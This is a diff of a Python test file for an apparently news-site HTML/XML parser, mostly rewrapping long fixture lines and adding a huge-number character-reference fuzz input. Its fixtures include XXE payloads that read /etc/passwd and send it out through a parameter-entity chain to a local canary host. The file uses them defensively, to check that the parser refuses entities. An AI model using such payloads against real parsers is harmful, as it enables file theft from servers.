@@ -217,7 +217,8 @@ def test_index_page():
         <a href="/"><img></a> <a href="/tag/harga-beras-hari-ini">Harga beras</a> <a href="javascript:void(0)">x</a>
         <a href="harga-beras-di-pasar-turun?utm_source=x"><img src=x></a> <a href="harga-beras-di-pasar-turun/">Harga
         <b>beras</b></a> <a href="/read/410291">Dua</a> <a href="https://lain.example/satu-dua-tiga-empat">Iklan</a>
-        <a href="/foto-satu-dua-tiga.jpg">Foto</a> <a href="/tentang-kami">Tentang</a> <a href="/?p=12">Tiga</a></body>""",
+        <a href="/foto-satu-dua-tiga.jpg">Foto</a> <a href="/tentang-kami">Tentang</a>
+        <a href="/?p=12">Tiga</a></body>""",
         "index",
         url=HOME + "indeks?page=2",
     )
@@ -338,7 +339,8 @@ def test_a_name_with_an_accent_is_read_and_a_title_never_holds_a_control_charact
         '<!ENTITY x SYSTEM "file:///etc/passwd">',
         '<!ENTITY x PUBLIC "a" "http://127.0.0.1:9/canary">',
         '<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;',
-        """<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>"> %e; %s;""",
+        """<!ENTITY % f SYSTEM "file:///etc/passwd">
+       <!ENTITY % e "<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>"> %e; %s;""",
     ],
 )
 def test_no_entity_is_read_from_anywhere(subset):
@@ -568,6 +570,7 @@ FRAGMENTS = st.sampled_from(
         b"encoding='utf-7'",
         b"<base href='http://['>",
         b"&#xD800;",
+        b"&#" + b"9" * 5000 + b";",
         b"<item xml:base='javascript:x'>",
         b"</",
         b"<",
